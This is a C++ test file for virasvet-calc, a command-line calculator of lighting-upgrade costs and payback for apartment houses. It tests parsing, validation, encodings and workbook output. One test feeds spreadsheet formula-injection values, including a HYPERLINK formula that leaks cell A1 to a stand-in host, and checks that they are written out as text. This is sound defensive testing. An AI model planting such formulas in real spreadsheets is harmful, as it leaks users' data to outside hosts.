// virasvet-calc on spreadsheets as housing offices save them and as an attacker writes them:
// each case is the file that showed a fault.

#include "ProblemRegister.h"
#include "ProgramRun.h"
#include "WorkbookSheet.h"

#include <xlsxwriter.h>
#include <zip.h>

#include <algorithm>
#include <clocale>

namespace {

using namespace cli_test;

// Result columns after File, Line, Address and ManagementCompany (no carried columns).
constexpr std::size_t PaybackFound = 4;
constexpr std::size_t InstallCostPlanned = 10;
constexpr std::size_t FittingCountPlanned = 14;
constexpr std::size_t BlockCountPlanned = 16;

class OfficeFiles : public ProgramRun {
protected:
    // The cells of the results' row for the house on `line` of the input, quotes taken off
    // (no row here holds a doubled quote or a line break).
    std::vector<std::string> Row(const Outcome& run, std::size_t row, char delimiter = ';') {
        const std::vector<std::string> lines = Lines(run.Out);
        std::vector<std::string> cells(1);
        bool quoted = false;
        for (const char c : row < lines.size() ? lines[row] : std::string()) {
            if (c == '"') {
                quoted = !quoted;
            } else if (c == delimiter && !quoted) {
                cells.emplace_back();
            } else {
                cells.back() += c;
            }
        }
        return row < lines.size() ? cells : std::vector<std::string>{};
    }
};

TEST_F(OfficeFiles, RowsWithTheWrongNumberOfCellsAreRejected) {
    // A decimal comma under ',' makes four cells of three columns; a truncated last line, two.
    const Outcome comma =
        Calc(File("comma.csv", "Address,BlockPrice,BlockInstallPrice\nr5,1,5,\n"));
    EXPECT_EQ(comma.Status, 1);
    EXPECT_NE(comma.Err.find("comma.csv:2: ячеек в строке: 4, столбцов в заголовке: 3 (при "
                             "разделителе ',' число с десятичной запятой берётся в кавычки"),
              std::string::npos)
        << comma.Err;
    const Outcome cut = Calc(File("cut.csv", "Address;ManagementCompany;Tariff;EntranceCount\n"
                                             "a;ТСЖ;1,5;4\nb;УК;1,5\n"));
    EXPECT_EQ(cut.Status, 1);
    EXPECT_NE(cut.Err.find("cut.csv:3: ячеек в строке: 3, столбцов в заголовке: 4\n"),
              std::string::npos)
        << cut.Err;
    EXPECT_EQ(Row(cut, 1, ';').size(), 26u);
    EXPECT_EQ(Row(cut, 1)[PaybackFound], "1");
    // The rejected row keeps its own address and company, and has no figures.
    const std::vector<std::string> rejected = Row(cut, 2);
    EXPECT_EQ(std::vector<std::string>(rejected.begin() + 2, rejected.begin() + 4),
              (std::vector<std::string>{"b", "УК"}));
    EXPECT_EQ(std::count(rejected.begin() + 4, rejected.end(), ""),
              rejected.end() - rejected.begin() - 4);
    EXPECT_NE(cut.Err.find("посчитано домов: 1, отклонено строк: 1"), std::string::npos);
}

TEST_F(OfficeFiles, QuotedDecimalCommasAndThousandsAreRead) {
    // As LibreOffice saves a comma-delimited file in a Russian locale; blank, no-break space and
    // narrow no-break space between thousands.
    const Outcome run = Calc("--seed 7 " + File("ru.csv", "Address,Tariff,BlockPrice\n"
                                                          "\"ул. Мира 1\",\"2,5\",\"1 250,00\"\n"
                                                          "b,2.5,\"1\xC2\xA0"
                                                          "250,00\"\n"
                                                          "c,\"2,5\",1\xE2\x80\xAF"
                                                          "250\n"
                                                          "d,2.5,1\n"));
    ASSERT_EQ(run.Status, 0) << run.Err;
    for (std::size_t row = 1; row <= 3; ++row) {
        EXPECT_EQ(Row(run, row, ',')[InstallCostPlanned], "121500") << row; // 90 × (1250 + 100)
    }
    EXPECT_EQ(Row(run, 4, ',')[InstallCostPlanned], "9090");
    // Its decimal commas are the results' too.
    EXPECT_EQ(Row(run, 1, ',')[InstallCostPlanned + 7], "53,80"); // daily energy, existing
    // Groups must be of three digits.
    const Outcome groups =
        Calc(File("g.csv", "Address;BlockPrice\na;12 50\nb;1 2500\nc; 1 250 \n"));
    EXPECT_EQ(groups.Status, 1);
    EXPECT_NE(groups.Err.find("g.csv:2: BlockPrice: «12 50» — не число"), std::string::npos)
        << groups.Err;
    EXPECT_NE(groups.Err.find("g.csv:3: BlockPrice: «1 2500» — не число"), std::string::npos);
    EXPECT_EQ(groups.Err.find("g.csv:4:"), std::string::npos);
}

TEST_F(OfficeFiles, ValuesNoHouseCanHaveAreRejectedWithTheirRange) {
    const Outcome run = Calc(
        File("bad.csv",
             "Address;HoldTimeLanding;ExistingHoursLanding;PlannedHoursBetween;ExistingLampLife;"
             "BlockPrice;PlannedPowerLanding;Tariff;EntranceCount;HasLift\n"
             "a;-1;48;-13;-6;-0,5;-40;0;abc;2\n"
             "b;60;13;24;6;1e308;40;1,38;5;1\n"
             "c;60;13;24;6;350;1e308;1,38;5;1\n"
             "d;0;0;0;0;0;0;0,01;1;0\n"));
    EXPECT_EQ(run.Status, 1);
    const std::string range = " — вне допустимых пределов ";
    EXPECT_EQ(run.Err, "bad.csv:2: EntranceCount: «abc» — не число\n"
                       "bad.csv:2: HasLift: «2» — ожидается 1 (да) или 0 (нет)\n"
                       "bad.csv:2: Tariff: 0" +
                           range +
                           "(больше 0)\n"
                           "bad.csv:2: ExistingLampLife: -6" +
                           range +
                           "(не меньше 0)\n"
                           "bad.csv:2: ExistingHoursLanding: 48" +
                           range +
                           "(0..24)\n"
                           "bad.csv:2: PlannedPowerLanding: -40" +
                           range +
                           "(не меньше 0)\n"
                           "bad.csv:2: PlannedHoursBetween: -13" +
                           range +
                           "(0..24)\n"
                           "bad.csv:2: BlockPrice: -0,5" +
                           range +
                           "(не меньше 0)\n"
                           "bad.csv:2: HoldTimeLanding: -1" +
                           range +
                           "(не меньше 0)\n"
                           "bad.csv:3: расчёт даёт бесконечные или неопределённые значения: цены, "
                           "мощности или сроки службы слишком велики\n"
                           "bad.csv:4: расчёт даёт бесконечные или неопределённые значения: цены, "
                           "мощности или сроки службы слишком велики\n"
                           "посчитано домов: 1, отклонено строк: 3\n");
    EXPECT_EQ(run.Out.find("INF"), std::string::npos);
    EXPECT_EQ(run.Out.find("NAN"), std::string::npos);
    EXPECT_EQ(Row(run, 4).size(), 26u); // the house of zeros is calculated
    EXPECT_NE(Row(run, 4)[PaybackFound + 1], "");
}

TEST_F(OfficeFiles, ALampCountOfZeroInAnySpellingSwitchesTheZoneOff) {
    const Outcome run = Calc("--seed 7 " + File("z.csv", "Address;PlannedLampsLanding\n"
                                                         "a;0\nb;00\nc;0,0\nd;-0\ne; 0.0 \nf;1\n"));
    ASSERT_EQ(run.Status, 0) << run.Err;
    for (std::size_t row = 1; row <= 5; ++row) {
        EXPECT_EQ(Row(run, row)[BlockCountPlanned], "45") << row;
        EXPECT_EQ(Row(run, row)[FittingCountPlanned], "50") << row;
    }
    EXPECT_EQ(Row(run, 6)[BlockCountPlanned], "90");
}

TEST_F(OfficeFiles, AnInputIsNeverTheOutput) {
    const std::string houses = "Address;Tariff\na;1,5\n";
    File("houses.csv", houses);
    fs::create_symlink("houses.csv", dir_ / "link.csv");
    fs::create_hard_link(dir_ / "houses.csv", dir_ / "hard.csv");
    for (const std::string output : {"houses.csv", "link.csv", "./hard.csv"}) {
        const Outcome run = Calc("-o " + output + " other.csv houses.csv");
        EXPECT_EQ(run.Status, 2) << output;
        EXPECT_NE(run.Err.find("houses.csv: это исходный файл"), std::string::npos) << run.Err;
        EXPECT_EQ(Read("houses.csv"), houses);
    }
}

TEST_F(OfficeFiles, FailedWritesOfHelpVersionAndTemplateFail) {
    for (const std::string option : {"--help", "--version", "--template"}) {
        const Outcome full =
            Shell(std::string("'") + VIRASVET_CALC + "' " + option + " >/dev/full 2>err.txt");
        EXPECT_EQ(full.Status, 2) << option;
        EXPECT_NE(full.Err.find("не удаётся записать результат в стандартный вывод: на диске "
                                "нет места; освободите место"),
                  std::string::npos)
            << full.Err;
    }
}

TEST_F(OfficeFiles, TextThatASpreadsheetTakesForAFormulaIsWrittenAsText) {
    const std::string hyperlink = "=HYPERLINK(\"\"http://x/?leak=\"\"&A1;\"\"клик\"\")";
    const Outcome run = Calc("--seed 1 " + File("=2+2.csv", "Address;Note;Code\n"
                                                            "=1+2;+cmd;-5\n\"" +
                                                                hyperlink +
                                                                "\";@SUM(A1);-1,5e3\n"
                                                                "\"\tx\";-x;+7\n"
                                                                "ул. Мира;=;\n"));
    ASSERT_EQ(run.Status, 0) << run.Err;
    const std::vector<std::string> lines = Lines(run.Out);
    ASSERT_EQ(lines.size(), 5u);
    EXPECT_TRUE(lines[1].starts_with("'+cmd;-5;'=2+2.csv;2;'=1+2;;1;")) << lines[1];
    EXPECT_TRUE(lines[2].starts_with("'@SUM(A1);-1,5e3;'=2+2.csv;3;\"'=HYPERLINK(")) << lines[2];
    EXPECT_TRUE(lines[3].starts_with("'-x;+7;'=2+2.csv;4;'\tx;;1;")) << lines[3];
    EXPECT_TRUE(lines[4].starts_with("'=;;'=2+2.csv;5;ул. Мира;;1;")) << lines[4];
}

TEST_F(OfficeFiles, ColumnsThatAreNoFieldAreCarried) {
    const Outcome run = Calc("--seed 7 " + File("c.csv", "№;Address;Примечание;Tariff;ID\n"
                                                         "1;a;без лифта;1,38;00017\n"
                                                         "2;b;;1,38;\n"));
    ASSERT_EQ(run.Status, 0) << run.Err;
    EXPECT_TRUE(Lines(run.Out)[0].starts_with("\xEF\xBB\xBF№;Примечание;ID;File;Line;Address;"))
        << run.Out;
    EXPECT_TRUE(Lines(run.Out)[1].starts_with("1;без лифта;00017;c.csv;2;a;;1;")) << run.Out;
    EXPECT_TRUE(Lines(run.Out)[2].starts_with("2;;;c.csv;3;b;;1;")) << run.Out;
    EXPECT_EQ(Row(run, 1).size(), 29u);

    // A name one or two letters from a field's stops the run, naming the field.
    for (const std::string name : {"Adress", "Entrance Cont", "TARIF_", "Floor_Cnt"}) {
        const Outcome typo = Calc(File("t.csv", name + ";Address\n1;x\n"));
        EXPECT_EQ(typo.Status, 2) << name;
        EXPECT_NE(typo.Err.find("нет такого столбца; может быть, "), std::string::npos) << typo.Err;
    }
    const Outcome spaced = Calc(File("s.csv", "entrance cont;Address\n1;x\n"));
    EXPECT_NE(spaced.Err.find("s.csv:1: entrance cont: нет такого столбца; может быть, "
                              "EntranceCount?"),
              std::string::npos)
        << spaced.Err;
    // Case, blanks and underscores aside, a field's name is the field.
    const Outcome loose = Calc(File("l.csv", "entrance_count;Address\n4;x\n"));
    EXPECT_EQ(loose.Status, 0) << loose.Err;
}

TEST_F(OfficeFiles, WindowsCyrillicIsReadAndResultsCarryAByteOrderMark) {
    // "Гагарина 5" in Windows-1251, as Excel saves CSV on a Russian desktop.
    const std::string cyrillic = "\xC3\xE0\xE3\xE0\xF0\xE8\xED\xE0 5";
    File("w.csv", "Address;Tariff\n" + cyrillic + ";1,5\n");
    const Outcome run = Calc("--seed 1 w.csv");
    ASSERT_EQ(run.Status, 0) << run.Err;
    EXPECT_EQ(run.Err, "w.csv: текст не в UTF-8, прочитан как Windows-1251 (кодировку задаёт "
                       "--encoding)\n");
    EXPECT_TRUE(run.Out.starts_with("\xEF\xBB\xBF"
                                    "File;Line;Address;"))
        << run.Out;
    EXPECT_TRUE(Lines(run.Out)[1].starts_with("w.csv;2;Гагарина 5;;1;")) << run.Out;
    const Outcome utf8 = Calc("--encoding utf-8 w.csv");
    EXPECT_EQ(utf8.Status, 1);
    EXPECT_NE(utf8.Err.find("w.csv:2: байты не в кодировке UTF-8"), std::string::npos) << utf8.Err;
    EXPECT_EQ(Calc("--encoding cp866 w.csv").Status, 2);
    // UTF-8 text read as Windows-1251 when told so.
    const Outcome forced =
        Calc("--no-bom --encoding windows-1251 " + File("u.csv", "Address\nМир\n"));
    ASSERT_EQ(forced.Status, 0);
    EXPECT_TRUE(Lines(forced.Out)[1].starts_with("u.csv,2,РњРёСЂ,")) << forced.Out;
    EXPECT_TRUE(Lines(forced.Out)[0].starts_with("File,")); // no byte-order mark
    EXPECT_TRUE(Calc("--template")
                    .Out.starts_with("\xEF\xBB\xBF"
                                     "Address;"));
    EXPECT_TRUE(Calc("--template --no-bom").Out.starts_with("Address;"));
}

TEST_F(OfficeFiles, RowMessagesAreCappedAndCounted) {
    std::string houses = "Address;Tariff\n";
    for (int i = 0; i < 150; ++i) {
        houses += "h;0\n";
    }
    houses += "ok;1\n";
    File("many.csv", houses);
    const Outcome run = Calc("many.csv");
    EXPECT_EQ(run.Status, 1);
    std::vector<std::string> lines = Lines(run.Err);
    ASSERT_EQ(lines.size(), 102u);
    EXPECT_EQ(lines[99], "many.csv:101: Tariff: 0 — вне допустимых пределов (больше 0)");
    EXPECT_EQ(lines[100], "… и ещё сообщений об ошибках в строках: 50 (показывать больше: "
                          "--max-errors)");
    EXPECT_EQ(lines[101], "посчитано домов: 1, отклонено строк: 150");
    EXPECT_EQ(Lines(Calc("--max-errors 2 many.csv").Err).size(), 4u);
    EXPECT_EQ(Lines(Calc("--max-errors 0 many.csv").Err).size(), 2u);
    EXPECT_EQ(Calc("--max-errors x many.csv").Status, 2);

    // A header of many misspelt columns, likewise.
    std::string header = "Address";
    for (int i = 0; i < 1000; ++i) {
        header += ";Tarif";
    }
    const Outcome wide = Calc(File("wide.csv", header + "\n"));
    EXPECT_EQ(wide.Status, 2);
    lines = Lines(wide.Err);
    ASSERT_EQ(lines.size(), 101u);
    EXPECT_EQ(lines[100], "… и ещё сообщений об ошибках в строках: 900 (показывать больше: "
                          "--max-errors)");
}

// The sheet of a workbook as its zip part holds it.
std::string WorkbookPart(const std::string& path, const std::string& part) {
    int error = 0;
    zip_t* archive = zip_open(path.c_str(), ZIP_RDONLY, &error);
    if (archive == nullptr) {
        return {};
    }
    std::string text;
    if (zip_file_t* file = zip_fopen(archive, part.c_str(), 0)) {
        char buffer[4096];
        for (zip_int64_t count; (count = zip_fread(file, buffer, sizeof buffer)) > 0;) {
            text.append(buffer, static_cast<std::size_t>(count));
        }
        zip_fclose(file);
    }
    zip_discard(archive);
    return text;
}

TEST_F(OfficeFiles, WorkbooksAreReadAndWritten) {
    // A workbook as an office saves it: strings shared, numbers as numbers, a decimal comma in a
    // text cell, a carried column, rows with gaps.
    const std::string input = (dir_ / "houses.xlsx").string();
    lxw_workbook* book = workbook_new(input.c_str());
    lxw_worksheet* sheet = workbook_add_worksheet(book, "Дома");
    const std::vector<std::string> header = {"Address", "№", "Tariff", "BlockPrice"};
    for (std::size_t i = 0; i < header.size(); ++i) {
        worksheet_write_string(sheet, 1, static_cast<lxw_col_t>(i), header[i].c_str(), nullptr);
    }
    worksheet_write_string(sheet, 2, 0, "=1+2", nullptr);
    worksheet_write_number(sheet, 2, 1, 17, nullptr);
    worksheet_write_number(sheet, 2, 2, 2.5, nullptr);
    worksheet_write_number(sheet, 2, 3, 1250, nullptr);
    worksheet_write_string(sheet, 4, 0, "ул. Мира", nullptr);
    worksheet_write_string(sheet, 4, 2, "2,5", nullptr);
    worksheet_write_number(sheet, 4, 3, 1, nullptr);
    ASSERT_EQ(workbook_close(book), LXW_NO_ERROR);

    const Outcome run = Calc("--seed 7 --no-bom houses.xlsx");
    ASSERT_EQ(run.Status, 0) << run.Err;
    const std::vector<std::string> lines = Lines(run.Out);
    ASSERT_EQ(lines.size(), 3u) << run.Out;
    EXPECT_TRUE(lines[1].starts_with("17;houses.xlsx;3;'=1+2;;1;")) << lines[1];
    EXPECT_TRUE(lines[2].starts_with(";houses.xlsx;5;ул. Мира;;1;")) << lines[2];
    EXPECT_EQ(Cells(lines[1], ';')[1 + InstallCostPlanned], "121500");
    EXPECT_EQ(Cells(lines[2], ';')[1 + InstallCostPlanned], "9090");

    // Results as a workbook: the same rows, numbers as numbers, text as text, a frozen header.
    const Outcome written = Calc("--seed 7 -o results.xlsx houses.xlsx");
    ASSERT_EQ(written.Status, 0) << written.Err;
    const std::string results =
        WorkbookPart((dir_ / "results.xlsx").string(), "xl/worksheets/sheet1.xml");
    EXPECT_NE(results.find("<pane ySplit=\"1\""), std::string::npos);
    EXPECT_NE(results.find("<c r=\"L2\"><v>121500</v></c>"), std::string::npos) << results;
    EXPECT_NE(results.find("<c r=\"H3\"><v>2.3</v></c>"), std::string::npos); // payback months
    EXPECT_NE(results.find("<c r=\"D2\" t=\"inlineStr\"><is><t>=1+2</t>"), std::string::npos);
    const Outcome back = Calc("--seed 7 --no-bom results.xlsx");
    EXPECT_EQ(back.Status, 0) << back.Err;
    EXPECT_TRUE(Lines(back.Out)[1].starts_with("17;houses.xlsx;3;1;")) << back.Out;

    // A file that is no workbook, and one whose output would replace its input.
    File("broken.xlsx", "PK\x03\x04 no archive");
    const Outcome broken = Calc("broken.xlsx");
    EXPECT_EQ(broken.Status, 2);
    EXPECT_NE(broken.Err.find("broken.xlsx: не удаётся открыть книгу .xlsx"), std::string::npos)
        << broken.Err;
}

// The rows of a problems file as a spreadsheet reads them back, its header first.
std::vector<std::vector<std::string>> ProblemsFileRows(const std::string& path) {
    std::vector<std::vector<std::string>> rows;
    if (path.ends_with(".csv")) {
        std::ifstream file(path, std::ios::binary);
        std::string text{std::istreambuf_iterator<char>(file), {}};
        if (text.starts_with("\xEF\xBB\xBF")) {
            text.erase(0, 3);
        }
        for (const std::string& line : Lines(text)) {
            rows.push_back(Cells(line, ';'));
            if (line.ends_with(';')) {
                rows.back().emplace_back();
            }
        }
        return rows;
    }
    const auto book =
        sheet::OpenWorkbook(path, path.ends_with(".ods") ? sheet::WorkbookFormat::OpenDocument
                                                         : sheet::WorkbookFormat::Xlsx);
    rows.push_back(book->Header());
    std::vector<sheet::SheetRecord> records;
    while (book->ReadRecords(100, records)) {
    }
    for (const sheet::SheetRecord& record : records) {
        rows.push_back(record.Cells);
    }
    return rows;
}

TEST_F(OfficeFiles, ProblemsOfARegisterAreToldInItsOwnWords) {
    const std::vector<std::string> header = {"Строка",   "Адрес",     "Столбец", "Поле",
                                             "Значение", "Сообщение", "Итог"};
    for (const std::string name : {"reg.csv", "reg.xlsx", "reg.ods"}) {
        SCOPED_TRACE(name);
        test_support::WriteRegister(QString::fromStdString((dir_ / name).string()));
        for (const std::string problems : {"p.csv", "p.xlsx", "p.ods"}) {
            SCOPED_TRACE(problems);
            const Outcome run =
                Calc("--seed 1 --no-bom -o r.csv --problems " + problems + " " + name);
            EXPECT_EQ(run.Status, 1) << run.Err;
            std::vector<std::vector<std::string>> expected = test_support::RegisterProblems;
            expected.insert(expected.begin(), header);
            EXPECT_EQ(ProblemsFileRows((dir_ / problems).string()), expected);
            // The rows calculated with a start-up value are named on standard error.
            EXPECT_NE(run.Err.find("в 2 строках пустые ячейки заполнены значениями по "
                                   "умолчанию: " +
                                   name + ":2: Тариф, " + name +
                                   ":3: Подъездов (отклонять такие строки: --strict"),
                      std::string::npos)
                << run.Err;
            EXPECT_NE(run.Err.find("посчитано домов: 3, отклонено строк: 4"), std::string::npos)
                << run.Err;
        }
        // --strict rejects them instead.
        const Outcome strict = Calc("--seed 1 --no-bom -o r.csv --strict --problems p.csv " + name);
        EXPECT_EQ(strict.Status, 1);
        std::vector<std::vector<std::string>> expected = test_support::StrictRegisterProblems();
        expected.insert(expected.begin(), header);
        EXPECT_EQ(ProblemsFileRows((dir_ / "p.csv").string()), expected);
        EXPECT_EQ(strict.Err.find("пустые ячейки заполнены"), std::string::npos) << strict.Err;
        // Each message names the cell by its column as the register heads it, as the problems do.
        for (const std::string message : {":2: Тариф: пустая ячейка (строгая проверка)\n",
                                          ":4: Существующая, этаж: количество ламп: 1"}) {
            EXPECT_NE(strict.Err.find(name + message), std::string::npos) << strict.Err;
        }
        EXPECT_NE(strict.Err.find("посчитано домов: 1, отклонено строк: 6"), std::string::npos);
    }
    // A cell a spreadsheet would take for a formula is written as text; the problems never
    // replace an input or the results.
    File("f.csv", "Адрес;Тариф\n=1+2;\n");
    ASSERT_EQ(Calc("--seed 1 -o r.csv --problems p.csv f.csv").Status, 0);
    EXPECT_EQ(ProblemsFileRows((dir_ / "p.csv").string()).at(1).at(1), "'=1+2");
    for (const std::string clash : {"f.csv", "r.csv"}) {
        const Outcome refused = Calc("--seed 1 -o r.csv --problems " + clash + " f.csv");
        EXPECT_EQ(refused.Status, 2) << clash;
        EXPECT_NE(refused.Err.find("проблемы"), std::string::npos) << refused.Err;
    }
    EXPECT_EQ(Read("f.csv"), "Адрес;Тариф\n=1+2;\n");
}

TEST_F(OfficeFiles, ResultsGoWhereTheirNameSays) {
    const std::string houses = "Address;Tariff\na;1,5\n";
    File("x.csv", houses);
    // Standard input read from the file -o names.
    const Outcome over = Calc("-o x.csv - <x.csv");
    EXPECT_EQ(over.Status, 2);
    EXPECT_NE(over.Err.find("-: это исходный файл"), std::string::npos) << over.Err;
    EXPECT_EQ(Read("x.csv"), houses);
    // An extension nothing here writes is refused before anything is written.
    for (const std::string name : {"r.xls", "r.pdf"}) {
        const Outcome refused = Calc("-o " + name + " x.csv");
        EXPECT_EQ(refused.Status, 2) << name;
        EXPECT_NE(refused.Err.find("результат пишется в .csv, .xlsx или .ods"), std::string::npos)
            << refused.Err;
        EXPECT_FALSE(fs::exists(dir_ / name));
    }
    // An .ods is written as one, numbers as numbers, and reads back.
    const Outcome ods = Calc("--seed 1 -o r.ods x.csv");
    ASSERT_EQ(ods.Status, 0) << ods.Err;
    const std::string path = (dir_ / "r.ods").string();
    EXPECT_EQ(WorkbookPart(path, "mimetype"), "application/vnd.oasis.opendocument.spreadsheet");
    EXPECT_NE(WorkbookPart(path, "content.xml")
                  .find("<table:table-cell office:value-type=\"float\" office:value=\"40500\">"),
              std::string::npos);
    const Outcome back = Calc("--seed 1 --no-bom r.ods");
    EXPECT_EQ(back.Status, 0) << back.Err;
    EXPECT_TRUE(Lines(back.Out).at(1).starts_with("x.csv;2;")) << back.Out;
    // So is a plan, its spend a number.
    const Outcome plan = Calc("--seed 1 --budget 100000 --plan p.ods x.csv");
    ASSERT_EQ(plan.Status, 0) << plan.Err;
    EXPECT_NE(WorkbookPart((dir_ / "p.ods").string(), "content.xml")
                  .find("<table:table-cell office:value-type=\"float\" office:value=\"40500.00\">"),
              std::string::npos);
}

TEST_F(OfficeFiles, WorkbooksHoldOnlyWhatXmlCan) {
    // U+FFFE and U+FFFF are UTF-8 a CSV file may hold, but no XML may: they are written as
    // U+FFFD, and the program reads back what it wrote. Blanks that XML readers drop (an office
    // program's too: at a paragraph's ends, after another) are kept.
    File("x.csv", "Address;Заметка\xEF\xBF\xBF\nа\xEF\xBF\xBEб;в\n\"  ул.  Мира\t1 \";\n");
    for (const std::string name : {"r.xlsx", "r.ods"}) {
        ASSERT_EQ(Calc("--seed 1 -o " + name + " x.csv").Status, 0) << name;
        const Outcome back = Calc("--seed 1 --no-bom " + name);
        ASSERT_EQ(back.Status, 0) << name << "\n" << back.Err;
        EXPECT_TRUE(back.Out.starts_with("Заметка\xEF\xBF\xBD;")) << back.Out;
        EXPECT_NE(back.Out.find(";а\xEF\xBF\xBDб;"), std::string::npos) << back.Out;
        EXPECT_NE(back.Out.find(";\"  ул.  Мира\t1 \";"), std::string::npos) << back.Out;
    }
}

TEST_F(OfficeFiles, NumbersAreWrittenInTheConventionOfTheResults) {
    // The default house pays back in 16,8 months; "Площадь" is carried.
    const std::string input = (dir_ / "carried.xlsx").string();
    lxw_workbook* book = workbook_new(input.c_str());
    lxw_worksheet* sheet = workbook_add_worksheet(book, "Дома");
    worksheet_write_string(sheet, 0, 0, "Площадь", nullptr);
    worksheet_write_string(sheet, 0, 1, "Address", nullptr);
    worksheet_write_number(sheet, 1, 0, 1234.5, nullptr);
    worksheet_write_number(sheet, 2, 0, 1e20, nullptr);
    worksheet_write_number(sheet, 3, 0, 65.04000000000001, nullptr); // stored so
    worksheet_write_string(sheet, 4, 0, "12.5", nullptr);            // text stays as written
    for (lxw_row_t row = 1; row <= 4; ++row) {
        worksheet_write_string(sheet, row, 1, "a", nullptr);
    }
    ASSERT_EQ(workbook_close(book), LXW_NO_ERROR);
    struct Case {
        const char* Name;
        std::string Content; // a CSV input; empty: the workbook
        std::string Options;
        std::vector<std::string> Rows; // how the rows of results begin, after the header
    };
    const std::vector<Case> cases = {
        {"',' and quoted decimal commas",
         "Address,Tariff\na,\"1,38\"\n",
         "",
         {"x.csv,2,a,,1,505,\"16,8\","}},
        {"',' and decimal points", "Address,Tariff\na,1.38\n", "", {"x.csv,2,a,,1,505,16.8,"}},
        {"',' and whole numbers", "Address,EntranceCount\na,5\n", "", {"x.csv,2,a,,1,505,16.8,"}},
        {"the first row with a fraction decides",
         "Address,Tariff\na,\nb,\"1,38\"\n",
         "",
         {"x.csv,2,a,,1,505,\"16,8\",", "x.csv,3,b,,1,505,\"16,8\","}},
        {"';' and decimal points", "Address;Tariff\na;1.38\n", "", {"x.csv;2;a;;1;505;16,8;"}},
        {"',' asked for a ';' file",
         "Address;Tariff\na;1,38\n",
         "--delimiter ,",
         {"x.csv,2,a,,1,505,16.8,"}},
        {"workbook numbers carried",
         "",
         "",
         {"1234,5;carried.xlsx", "100000000000000000000;carried.xlsx", "65,04;carried.xlsx",
          "12.5;carried.xlsx"}},
        {"workbook numbers carried into ','",
         "",
         "--delimiter ,",
         {"1234.5,carried.xlsx", "100000000000000000000,carried.xlsx", "65.04,carried.xlsx",
          "12.5,carried.xlsx"}},
    };
    for (const Case& c : cases) {
        const std::string file = c.Content.empty() ? "carried.xlsx" : File("x.csv", c.Content);
        const Outcome run = Calc("--seed 1 --no-bom " + c.Options + " " + file);
        EXPECT_EQ(run.Status, 0) << c.Name << "\n" << run.Err;
        const std::vector<std::string> lines = Lines(run.Out);
        ASSERT_EQ(lines.size(), c.Rows.size() + 1) << c.Name << "\n" << run.Out;
        for (std::size_t i = 0; i < c.Rows.size(); ++i) {
            EXPECT_TRUE(lines[i + 1].starts_with(c.Rows[i])) << c.Name << "\n" << lines[i + 1];
        }
    }
    // Into a workbook a carried number goes as a number, a text as text.
    ASSERT_EQ(Calc("--seed 1 -o r.xlsx carried.xlsx").Status, 0);
    const std::string results =
        WorkbookPart((dir_ / "r.xlsx").string(), "xl/worksheets/sheet1.xml");
    EXPECT_NE(results.find("<c r=\"A2\"><v>1234.5</v></c>"), std::string::npos) << results;
    // 65.04 as a double: the library writes sixteen digits of it, which spreadsheets show as 65.04.
    EXPECT_NE(results.find("<c r=\"A4\"><v>65.04"), std::string::npos) << results;
    EXPECT_NE(results.find("<c r=\"A5\" t=\"inlineStr\"><is><t>12.5</t>"), std::string::npos);
}

TEST_F(OfficeFiles, AWorkbookHasDecimalPointsUnderARussianLocale) {
    // The C library's number formatting follows the locale Qt takes from the environment. Where
    // the machine has no Russian locale, one is made for the program from the locale sources.
    std::string russian = "LC_ALL=ru_RU.UTF-8 ";
    if (std::setlocale(LC_NUMERIC, "ru_RU.UTF-8") == nullptr) {
        const fs::path made = dir_ / "locales";
        fs::create_directories(made);
        Shell("localedef -c -i ru_RU -f UTF-8 '" + (made / "ru_RU.UTF-8").string() +
              "' >/dev/null 2>&1");
        if (!fs::exists(made / "ru_RU.UTF-8" / "LC_NUMERIC")) {
            GTEST_SKIP() << "no ru_RU.UTF-8 locale here, and none can be made";
        }
        russian = "LOCPATH='" + made.string() + "' " + russian;
    }
    std::setlocale(LC_NUMERIC, "C");
    File("h.csv", "Address;Tariff\nx;1,38\n");
    ASSERT_EQ(
        Shell(russian + "'" + std::string(VIRASVET_CALC) + "' --seed 1 -o r.xlsx h.csv 2>err.txt")
            .Status,
        0);
    const std::string results =
        WorkbookPart((dir_ / "r.xlsx").string(), "xl/worksheets/sheet1.xml");
    EXPECT_NE(results.find("<c r=\"G2\"><v>16.8</v></c>"), std::string::npos) << results;
}

TEST_F(OfficeFiles, AWorkbookIsWrittenWholeOrNotAtAll) {
    File("h.csv", "Address;Tariff\na;1\n");
    File("old.xlsx", "old");
    const fs::perms own = fs::perms::owner_read | fs::perms::owner_write;
    fs::permissions(dir_ / "old.xlsx", own);
    const Outcome replaced = Calc("--seed 1 -o old.xlsx h.csv");
    EXPECT_EQ(replaced.Status, 0) << replaced.Err;
    EXPECT_EQ(fs::status(dir_ / "old.xlsx").permissions() & fs::perms::all, own);
    EXPECT_NE(WorkbookPart((dir_ / "old.xlsx").string(), "xl/worksheets/sheet1.xml"), "");

    // A folder is refused before the first house (the input never ends).
    fs::create_directory(dir_ / "folder.xlsx");
    const std::string endless = "(echo 'Address;Tariff'; yes 'x;1') | timeout 20 '" +
                                std::string(VIRASVET_CALC) + "' --jobs 1 ";
    const Outcome folder = Shell(endless + "-o folder.xlsx - 2>err.txt");
    EXPECT_EQ(folder.Status, 2);
    EXPECT_NE(folder.Err.find("folder.xlsx: это каталог"), std::string::npos) << folder.Err;

    // Killed part way, the program leaves nothing beside its output.
    Shell("(echo 'Address;Tariff'; yes 'x;1') | timeout -s KILL 1 '" + std::string(VIRASVET_CALC) +
          "' --jobs 1 -o killed.xlsx - 2>err.txt");
    std::vector<std::string> names;
    for (const fs::directory_entry& entry : fs::directory_iterator(dir_)) {
        names.push_back(entry.path().filename().string());
    }
    std::sort(names.begin(), names.end());
    EXPECT_EQ(names,
              (std::vector<std::string>{"err.txt", "folder.xlsx", "h.csv", "old.xlsx", "out.txt"}));

    // What a program killed while packing left (its process gone) goes at the next write into
    // the folder; a running program's file stays.
    const std::string gone = Shell("sh -c 'echo $$' >out.txt").Status == 0 ? Read("out.txt") : "";
    const std::string running = std::to_string(::getpid());
    const std::vector<std::string> left = {".r.ods.virasvet-" + gone.substr(0, gone.size() - 1) +
                                               ".part.Ab12Cd",
                                           ".r.xlsx.virasvet-" + running + "-0"};
    for (const std::string& name : left) {
        File(name, "part");
    }
    for (const std::string output : {"r.ods", "r.xlsx"}) {
        ASSERT_EQ(Calc("--seed 1 -o " + output + " h.csv").Status, 0) << output;
    }
    EXPECT_FALSE(fs::exists(dir_ / left[0]));
    EXPECT_TRUE(fs::exists(dir_ / left[1]));
}

TEST_F(OfficeFiles, AFullDiskLeavesTheOldWorkbookWhole) {
    // Files may grow to 64 KiB only, as on a disk that fills up part way: the writer's own
    // temporary files and the packed workbook run into it, whoever runs the test (root too). The
